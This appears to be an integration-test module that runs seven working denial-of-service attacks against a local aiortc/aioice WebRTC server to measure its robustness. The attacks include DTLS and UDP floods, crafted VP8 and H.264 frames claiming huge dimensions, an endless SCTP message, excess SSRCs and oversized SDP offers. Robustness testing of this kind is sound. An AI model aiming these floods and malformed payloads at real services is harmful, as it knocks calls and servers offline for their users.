"""The seven attacks, each as it was first measured against aiortc 1.16 and aioice 0.13.

Every attack takes the address of a server, does its worst within `LIMIT_S`, and says whether the
call it was made on lives. What the server suffers is measured elsewhere (`_abuse.py`).
"""

from __future__ import annotations

import asyncio
import os
import re
import time
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass
from fractions import Fraction
from functools import cache
from typing import Any

import aiohttp
import aioice
import av
import numpy as np
from aiortc import MediaStreamTrack, RTCRtpSender, RTCSessionDescription
from aiortc.mediastreams import MediaStreamError
from aiortc.rtcsctptransport import SCTP_DATA_FIRST_FRAG, DataChunk
from aiortc.rtp import RtpPacket
from av.video.codeccontext import VideoCodecContext

from articgw.protocol import Hello
from tests.integration.caller import Caller, post_offer

LIMIT_S = 15.0
"""For one attack; the stock server is given up on then."""
FPS = 30
PICTURES = 10
SIZE_PX = (640, 480)
_ENCODERS = {
    "VP8": ("libvpx", {"deadline": "realtime", "cpu-used": "8"}),
    "H264": (
        "libx264",
        {
            "preset": "ultrafast",
            "tune": "zerolatency",
            "profile": "baseline",
            "x264-params": "repeat-headers=1",
        },
    ),
}


@dataclass(frozen=True, slots=True)
class Outcome:
    """What the attacker saw."""

    call_lives: bool
    detail: str
    closes: bool = True
    """Whether the server should be rid of the attacker's call when he has hung up."""


# --- calls whose camera costs nothing ---------------------------------------------------------


@cache
def pictures(
    codec: str, size_px: tuple[int, int] = SIZE_PX, count: int = PICTURES
) -> tuple[bytes, ...]:
    """Of a bar that moves, encoded; the first one stands alone."""
    name, options = _ENCODERS[codec]
    context = av.CodecContext.create(name, "w")
    assert isinstance(context, VideoCodecContext)
    context.width, context.height = size_px
    context.pix_fmt, context.time_base = "yuv420p", Fraction(1, FPS)
    context.gop_size, context.bit_rate, context.options = FPS, 500_000, dict(options)
    packets = []
    for number in range(count):
        rgb = np.full((size_px[1], size_px[0], 3), 90, np.uint8)
        rgb[:, number * 8 :][:, :40] = (200, 60, 30)
        frame = av.VideoFrame.from_ndarray(rgb, format="rgb24").reformat(format="yuv420p")
        frame.pts = number
        packets += context.encode(frame)
    packets += context.encode(None)
    return tuple(bytes(packet) for packet in packets)


class PacketCamera(MediaStreamTrack):
    """Sends `pictures` over and over, and what is put in ``next_up`` first."""

    kind = "video"

    def __init__(self, codec: str = "VP8") -> None:
        super().__init__()
        self.next_up: list[bytes] = []
        self._pictures = pictures(codec)
        self._number = 0
        self._due_t = time.monotonic()

    async def recv(self) -> Any:
        self._due_t = max(self._due_t + 1 / FPS, time.monotonic() - 0.1)
        await asyncio.sleep(max(0.0, self._due_t - time.monotonic()))
        if self.readyState != "live":
            raise MediaStreamError
        data = self.next_up.pop(0) if self.next_up else self._pictures[self._number % PICTURES]
        packet = av.Packet(data)
        packet.pts, packet.time_base = self._number * 90_000 // FPS, Fraction(1, 90_000)
        self._number += 1
        return packet


class Attacker(Caller):
    """A call that any server takes: it greets, and does not wait to be greeted."""

    def __init__(self, url: str, codec: str = "VP8") -> None:
        super().__init__(url, camera=False)
        self.packets = PacketCamera(codec)
        transceiver = self.connection.addTransceiver(self.packets, "sendonly")
        wanted = RTCRtpSender.getCapabilities("video").codecs
        transceiver.setCodecPreferences([c for c in wanted if c.name == codec])
        self.answer = ""

    async def post(self) -> str:
        """Offer; returns the answer, which is not yet taken up."""
        status, body = await post_offer(self.url, await self.offer())
        assert status == 200, body
        self.answer = body["sdp"]
        return self.answer

    async def take_up(self) -> None:
        """Raises `TimeoutError` where no connection comes of it."""
        await self.connection.setRemoteDescription(RTCSessionDescription(self.answer, "answer"))
        async with asyncio.timeout(8.0):
            await self._open.wait()
        self.say(Hello())

    async def connect(self) -> None:
        """All of it."""
        await self.post()
        await self.take_up()

    async def hang_up(self) -> None:
        self.packets.stop()
        await super().hang_up()


async def pictures_come(url: str, within_s: float = 5.0) -> bool:
    """Whether the server still gets pictures of the call that came last."""
    try:
        async with asyncio.timeout(within_s):
            before = len((await picture_times(url))[-1])
            while len((await picture_times(url))[-1]) < before + 10:
                await asyncio.sleep(0.1)
    except (TimeoutError, aiohttp.ClientError):
        return False
    return True


async def picture_times(url: str) -> list[list[float]]:
    """See `_abuse_target`."""
    async with aiohttp.ClientSession() as http, http.get(f"{url}/abuse/times") as response:
        times_s: list[list[float]] = await response.json()
        return times_s


# --- F1, F2: datagrams of a third party -------------------------------------------------------


def client_hello() -> bytes:
    """DTLS 1.2 with one cipher suite that nobody agrees to, TLS_RSA_WITH_NULL_MD5 (RFC 6347)."""
    body = b"\xfe\xfd" + os.urandom(32) + b"\0" + b"\0" + b"\0\2\0\1" + b"\1\0"
    length = len(body).to_bytes(3, "big")
    handshake = b"\1" + length + b"\0\0" + b"\0\0\0" + length + body
    return b"\x16\xfe\xfd" + bytes(8) + len(handshake).to_bytes(2, "big") + handshake


def _ports(sdp: str) -> set[int]:
    return {int(port) for port in re.findall(r"a=candidate:\S+ 1 udp \d+ [\d.]+ (\d+)", sdp)}


async def client_hellos(url: str) -> Outcome:
    """F1: a third socket sends ClientHellos while the two shake hands."""
    caller, stop = Attacker(url), asyncio.Event()
    ports = _ports(await caller.post())
    socket, _ = await asyncio.get_running_loop().create_datagram_endpoint(
        asyncio.DatagramProtocol, local_addr=("127.0.0.1", 0)
    )

    async def flood() -> None:
        while not stop.is_set():
            for port in ports:
                for _ in range(10):
                    socket.sendto(client_hello(), ("127.0.0.1", port))
            await asyncio.sleep(0.002)

    flooding = asyncio.create_task(flood())
    began_t = time.monotonic()
    try:
        await asyncio.sleep(0.1)
        await caller.take_up()
        lives = await pictures_come(url)
        detail = f"connected in {time.monotonic() - began_t:.2f} s"
    except (TimeoutError, ConnectionError):
        lives, detail = False, f"the caller is {caller.connection.connectionState}"
    finally:
        stop.set()
        await flooding
        socket.close()
        await caller.hang_up()
    return Outcome(lives, detail)


async def datagrams_before_ice(url: str) -> Outcome:
    """F2: 68 MiB from a foreign address, to a call that never completes ICE."""
    caller = Attacker(url)
    sent_bytes = await flood_before_ice(await caller.post(), 68 * 2**20)
    await asyncio.sleep(1.0)
    await caller.hang_up()
    return Outcome(True, f"{sent_bytes >> 20} MiB sent", closes=False)


async def flood_before_ice(answer: str, total_bytes: int) -> int:
    """Datagrams of 3.7 KiB to the ports of an answer; returns how many bytes were sent."""
    socket, _ = await asyncio.get_running_loop().create_datagram_endpoint(
        asyncio.DatagramProtocol, local_addr=("127.0.0.1", 0)
    )
    junk, sent_bytes = b"\x80" + os.urandom(3770), 0
    while sent_bytes < total_bytes:
        for port in _ports(answer):
            for _ in range(8):
                socket.sendto(junk, ("127.0.0.1", port))
                sent_bytes += len(junk)
        await asyncio.sleep(0.001)
    socket.close()
    return sent_bytes


async def flood_without_nomination(url: str, total_bytes: int) -> bool:
    """F2 by the caller himself: his address passes ICE's checks, and he never nominates it.

    Returns whether the check passed, without which there was no attack.
    """
    caller, ice = Attacker(url), aioice.Connection(ice_controlling=True)
    await ice.gather_candidates()
    offer = await caller.offer()
    offer = re.sub(r"a=ice-ufrag:\S+", f"a=ice-ufrag:{ice.local_username}", offer)
    offer = re.sub(r"a=ice-pwd:\S+", f"a=ice-pwd:{ice.local_password}", offer)
    status, body = await post_offer(url, offer)
    assert status == 200, body
    answer: str = body["sdp"]
    found = {name: re.findall(rf"a=ice-{name}:(\S+)", answer)[0] for name in ("ufrag", "pwd")}
    ice.remote_username, ice.remote_password = found["ufrag"], found["pwd"]
    request = ice.build_request
    setattr(ice, "build_request", lambda pair, nominate: request(pair, False))  # noqa: B010  mypy
    for line in dict.fromkeys(re.findall(r"a=candidate:(.+)", answer)):
        await ice.add_remote_candidate(aioice.Candidate.from_sdp(line.strip()))
    await ice.add_remote_candidate(None)
    connecting = asyncio.create_task(ice.connect())
    await asyncio.sleep(1.0)
    pairs = [p for p in ice._check_list if p.state is aioice.ice.CandidatePair.State.SUCCEEDED]
    junk = b"\x80" + os.urandom(3770)
    for sent in range(total_bytes // len(junk) if pairs else 0):
        pairs[0].protocol.transport.sendto(junk, pairs[0].remote_addr)
        if sent % 8 == 7:
            await asyncio.sleep(0.001)
    connecting.cancel()
    with suppress(asyncio.CancelledError, ConnectionError):
        await connecting
    await ice.close()
    await caller.hang_up()
    return bool(pairs)


# --- F3: pictures -----------------------------------------------------------------------------


def vp8_bomb() -> bytes:
    """67 bytes that claim 16383x16383 pixels (RFC 6386, 9.1)."""
    honest = pictures("VP8")[0][:67]
    return honest[:6] + 2 * (16383).to_bytes(2, "little") + honest[10:]


def h264_bomb() -> bytes:
    """SPS of 16384x8192, PPS and the start of a picture (H.264, 7.3.2.1, 7.3.2.2, 7.3.3)."""

    def golomb(value: int) -> str:
        return f"{value + 1:0{2 * (value + 1).bit_length() - 1}b}"

    def unit(start: bytes, bits: str, tail: bytes = b"") -> bytes:
        bits += "0" * (-len(bits) % 8)
        payload = start[1:] + int(bits, 2).to_bytes(len(bits) // 8, "big")
        return b"\0\0\0\1" + start[:1] + payload.replace(b"\0\0", b"\0\0\3\0") + tail

    sizes = golomb(16384 // 16 - 1) + golomb(8192 // 16 - 1)
    sps = "".join(map(golomb, (0, 0, 2, 1))) + "0" + sizes + "1" + "1" + "0" + "0" + "1"
    pps = "11" + "00" + "111" + "0" + "00" + "111" + "000" + "1"
    head = "1" + golomb(7) + "1" + "0000" + "1" + "00" + "1"
    parameters = unit(bytes([0x67, 66, 0xC0, 62]), sps) + unit(b"\x68", pps)
    return parameters + unit(b"\x65", head, b"\x5a" * 40)


async def picture_bombs(url: str) -> Outcome:
    """F3: three of each kind, each over a real call, with honest pictures between."""
    lives = True
    for codec, bomb in (("VP8", vp8_bomb()), ("H264", h264_bomb())):
        caller = Attacker(url, codec)
        await caller.connect()
        lives &= await pictures_come(url)
        for _ in range(3):
            caller.packets.next_up.append(bomb)
            await asyncio.sleep(0.5)
        lives &= await pictures_come(url)
        await caller.hang_up()
    return Outcome(lives, f"{len(vp8_bomb())} bytes of VP8, {len(h264_bomb())} of H.264, 3 each")


# --- F4: a message that never ends ------------------------------------------------------------


async def endless_message(url: str, large: int = 5000, small: int = 20_000) -> Outcome:
    """F4: fragments of one message whose last never comes; then fragments of one byte.

    aiortc looks at every fragment it holds for every one that arrives, and a packet fits 60 small
    ones, between which the loop gets no turn.
    """
    caller = Attacker(url)
    await caller.connect()
    await asyncio.sleep(0.2)  # until the greeting is out
    sctp: Any = caller.connection.sctp
    first = tsn = sctp._local_tsn
    sequence = sctp._outbound_stream_seq[caller.channel.id]
    until_t = time.monotonic() + LIMIT_S
    while tsn - first < large + small and time.monotonic() < until_t and sctp.state == "connected":
        is_large = tsn - first < large
        if tsn - sctp._last_sacked_tsn > (64 if is_large else 1200):
            await asyncio.sleep(0.001)
            continue
        chunks = []
        for _ in range(1 if is_large else 60):
            chunk = DataChunk(flags=SCTP_DATA_FIRST_FRAG if tsn == first else 0)
            chunk.tsn, chunk.stream_id, chunk.stream_seq = tsn, caller.channel.id, sequence
            chunk.protocol, chunk.user_data = 51, b"x" * (1180 if is_large else 1)
            chunks.append(bytes(chunk))
            tsn += 1
        await sctp._send_chunk(_Bundle(chunks))
        if tsn % 16 == 0:
            await asyncio.sleep(0)
    detail = f"{tsn - first} of {large + small} fragments sent; the association was {sctp.state}"
    await caller.hang_up()
    return Outcome(True, detail)


@dataclass(frozen=True)
class _Bundle:
    """Several chunks in one packet (RFC 9260, 6.10), which aiortc does not write by itself."""

    chunks: list[bytes]

    def __bytes__(self) -> bytes:
        return b"".join(self.chunks)


# --- F5: many sources -------------------------------------------------------------------------


async def many_sources(url: str) -> Outcome:
    """F5: 300 SSRCs on one m-line, two rounds of RTCP, and the end."""
    caller = Attacker(url)
    await caller.connect()
    payload_type = int(re.findall(r"a=rtpmap:(\d+) VP8", caller.answer)[0])
    transport = caller.connection.getSenders()[0].transport
    for ssrc in range(300):
        packet = RtpPacket(payload_type=payload_type, ssrc=1000 + ssrc, payload=b"\x10")
        await transport._send_rtp(packet.serialize())
    await asyncio.sleep(3.0)
    lives = await pictures_come(url)
    await caller.hang_up()
    return Outcome(lives, "300 SSRCs")


# --- F6: long offers --------------------------------------------------------------------------


async def long_offers(url: str) -> Outcome:
    """F6: 1,000 candidates, 5,000 candidates, 400 m-lines."""
    caller = Attacker(url)
    sdp = await caller.offer()
    await caller.hang_up()
    head, _, section = sdp.partition("m=video")
    video = "m=video" + section.partition("m=")[0]

    def candidates(count: int) -> str:
        line = "a=candidate:{0} 1 udp 2130706431 127.0.0.1 {1} typ host\r\n"
        many = "".join(line.format(n, 1024 + n) for n in range(count))
        return sdp.replace("a=end-of-candidates\r\n", many, 1)

    sections = "".join(re.sub(r"a=mid:\S+", f"a=mid:{n}", video) for n in range(400))
    offers = {
        "1,000 candidates": candidates(1000),
        "5,000 candidates": candidates(5000),
        "400 m-lines": head + sections,
    }
    said = []
    for name, offer in offers.items():
        began_t = time.monotonic()
        try:
            status = str((await post_offer(url, offer))[0])
        except (aiohttp.ClientError, ValueError) as error:
            status = type(error).__name__
        said.append(f"{name}: {status} in {time.monotonic() - began_t:.2f} s")
    return Outcome(True, "; ".join(said), closes=False)


# --- F7: nobody takes the pictures ------------------------------------------------------------

STALL_S = 12.0


async def stalled_consumer(url: str) -> Outcome:
    """F7: 640x480 at 30 fps, to a model that takes 12 s for one picture."""
    caller = Attacker(url)
    await caller.connect()
    await asyncio.sleep(STALL_S)
    lives = caller.connection.connectionState == "connected"
    await caller.hang_up()
    return Outcome(lives, f"{STALL_S * FPS:.0f} pictures of {SIZE_PX[0]}x{SIZE_PX[1]}")


ATTACKS: dict[str, Callable[[str], Awaitable[Outcome]]] = {
    "F1": client_hellos,
    "F2": datagrams_before_ice,
    "F3": picture_bombs,
    "F4": endless_message,
    "F5": many_sources,
    "F6": long_offers,
    "F7": stalled_consumer,
}
